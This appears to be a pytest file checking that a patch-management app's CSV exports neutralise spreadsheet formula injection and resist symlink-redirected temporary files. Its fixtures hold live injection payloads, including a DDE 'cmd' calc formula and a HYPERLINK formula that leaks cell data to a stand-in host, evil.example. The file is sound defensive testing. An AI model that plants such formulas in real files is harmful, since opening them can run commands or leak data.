"""Every CSV the product writes neutralises spreadsheet formulas, and every export is
written through a temporary file that cannot be redirected by a symlink ([12] 4 and 12).

A site whose typed text (location, the person's name) and host-supplied text (the model a
host reports, a package's source, a deployment's detail) start like a formula is exported
through each export: no cell may start with ``= + - @`` TAB or CR, and the payload is kept
as text behind a leading ``'``.
"""

from __future__ import annotations

import csv
import os
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from app.core.assessment import Assessment, HostFacts, Update
from app.core.deployment import Deployment, HostState, PackagePin, Phase, Stage, Target
from app.core.errors import UserError
from app.core.models import Asset, Classification, OsFamily, Severity
from app.services import SiteService
from app.services.reports import export, generate
from app.store.assessments import AssessmentRepo
from app.store.deployments import DeploymentRepo
from app.ui.deploy.helpers import export_deployment

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_site(tmp_path: Path) -> Iterator[tuple[SiteService, int]]:
    service = SiteService.open(tmp_path / "site.pdsite", create=True, name="Site",
                               actor=CMD)
    asset = service.add_asset(Asset(hostname="web01", ips=("10.0.0.10",),
                                    os_family=OsFamily.LINUX, location=CMD, model=LINK,
                                    owner="@SUM(1+1)*cmd|' /C calc'!A0", notes="+1+1"))
    asset_id = int(asset.id or 0)
    now = datetime.now(UTC).replace(microsecond=0)
    facts = HostFacts(os_id="debian", os_name="Debian", os_version="12", hostname="web01")
    update = Update("openssl", "3.0.15-1", "3.0.13-1", "amd64", Classification.SECURITY,
                    Severity.CRITICAL, source=LINK, advisories=(CMD,))
    dep = Deployment(id=0, packages=(PackagePin("openssl", "3.0.15-1"),), targets=(
        Target(asset_id, "web01", "10.0.0.10", Stage.PRODUCTION, state=HostState.FAILED,
               detail=LINK, override="-2+3", reboot="\tboom"),),
        phase=Phase.HALTED, created_by=CMD, created_at=now, halt_reason=LINK)
    with service.store.atomic() as db:
        AssessmentRepo(db).record_success(asset_id, now, now, Assessment(
            host="web01", driver="apt", facts=facts, updates=[update]))
        dep_id = DeploymentRepo(db).create(dep).id
    yield service, int(dep_id)
    service.close()


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _export_all(service: SiteService, dep_id: int, folder: Path) -> dict[str, Path]:
    out = {name: folder / f"{name}.csv" for name in
           ("inventory", "patches", "deployments", "audit", "wizard")}
    service.export_csv(out["inventory"])
    for kind in ("patches", "deployments", "audit"):
        export(service, kind, "csv", out[kind])
    export_deployment(service, dep_id, str(out["wizard"]), "csv")
    return out


def test_every_csv_export_neutralises_formulas(hostile_site: tuple[SiteService, int],
                                               tmp_path: Path) -> None:
    service, dep_id = hostile_site
    files = _export_all(service, dep_id, tmp_path)
    expected = {"inventory": (CMD, LINK), "patches": (LINK, CMD),
                "deployments": (LINK, CMD), "audit": (CMD,), "wizard": (LINK,)}
    for name, path in files.items():
        cells = _cells(path)
        assert cells, name
        live = [c for c in cells if c.startswith(FORMULA_START)]
        assert live == [], f"{name} export keeps formulas: {live}"
        for payload in expected[name]:
            assert "'" + payload in cells, f"{name}: {payload} not kept as text"


def test_csv_cells_are_neutralised_with_every_formula_start(
        hostile_site: tuple[SiteService, int], tmp_path: Path) -> None:
    service, _ = hostile_site
    service.export_csv(tmp_path / "inventory.csv")
    cells = _cells(tmp_path / "inventory.csv")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+1+1" in cells


Exporter = Callable[[SiteService, int, Path], object]
EXPORTERS: dict[str, Exporter] = {
    "inventory-csv": lambda s, d, p: s.export_csv(p),
    "inventory-json": lambda s, d, p: s.export_json(p),
    "patches-csv": lambda s, d, p: export(s, "patches", "csv", p),
    "deployments-json": lambda s, d, p: export(s, "deployments", "json", p),
    "audit-csv": lambda s, d, p: export(s, "audit", "csv", p),
    "wizard-csv": lambda s, d, p: export_deployment(s, d, str(p), "csv"),
    "wizard-json": lambda s, d, p: export_deployment(s, d, str(p), "json"),
    "report-pdf": lambda s, d, p: generate(s, p),
    "policy-document": lambda s, d, p: s.reports.save_document(p, "# Patch policy\n"),
}


@pytest.mark.parametrize("name", sorted(EXPORTERS))
def test_export_does_not_follow_a_symlink_at_the_old_temporary_name(
        name: str, hostile_site: tuple[SiteService, int], tmp_path: Path) -> None:
    """[12] 12: the temporary name was ``.NAME.tmp-PID``; another local user who planted a
    symlink there made the export overwrite the file it pointed at."""
    service, dep_id = hostile_site
    folder = tmp_path / "shared"
    folder.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    target = folder / "export.out"
    (folder / f".{target.name}.tmp-{os.getpid()}").symlink_to(victim)
    (folder / f"{target.name}.tmp").symlink_to(victim)
    EXPORTERS[name](service, dep_id, target)
    assert victim.read_text(encoding="utf-8") == "precious\n"
    assert target.is_file() and not target.is_symlink()
    assert target.stat().st_size > 0
    # No temporary file is left behind next to the export.
    assert sorted(p.name for p in folder.iterdir() if not p.is_symlink()) == ["export.out"]


def test_export_replaces_the_target_and_leaves_nothing_behind_on_failure(
        hostile_site: tuple[SiteService, int], tmp_path: Path) -> None:
    service, _ = hostile_site
    target = tmp_path / "inventory.csv"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    assert service.export_csv(target) == 1
    assert "web01" in target.read_text(encoding="utf-8")
    assert target.stat().st_mode & 0o777 == 0o640  # the replaced file's permissions stay
    # A target that cannot be replaced (a folder of that name) is refused clearly, and no
    # temporary file is left beside it.
    blocked = tmp_path / "blocked"
    (blocked / "x.csv").mkdir(parents=True)
    with pytest.raises(UserError, match="Cannot write"):
        service.export_csv(blocked / "x.csv")
    assert [p.name for p in blocked.iterdir()] == ["x.csv"]
    with pytest.raises(UserError, match="Cannot write"):
        service.export_csv(tmp_path / "no-such-folder" / "x.csv")


def test_a_guarded_inventory_csv_imports_back_to_the_same_text(
        hostile_site: tuple[SiteService, int], tmp_path: Path) -> None:
    service, _ = hostile_site
    service.export_csv(tmp_path / "inventory.csv")
    other = SiteService.open(tmp_path / "other.pdsite", create=True, name="Other")
    try:
        report = other.import_csv(tmp_path / "inventory.csv")
        assert not report.errors
        (asset,) = other.assets()
        assert (asset.location, asset.model, asset.notes) == (CMD, LINK, "+1+1")
    finally:
        other.close()
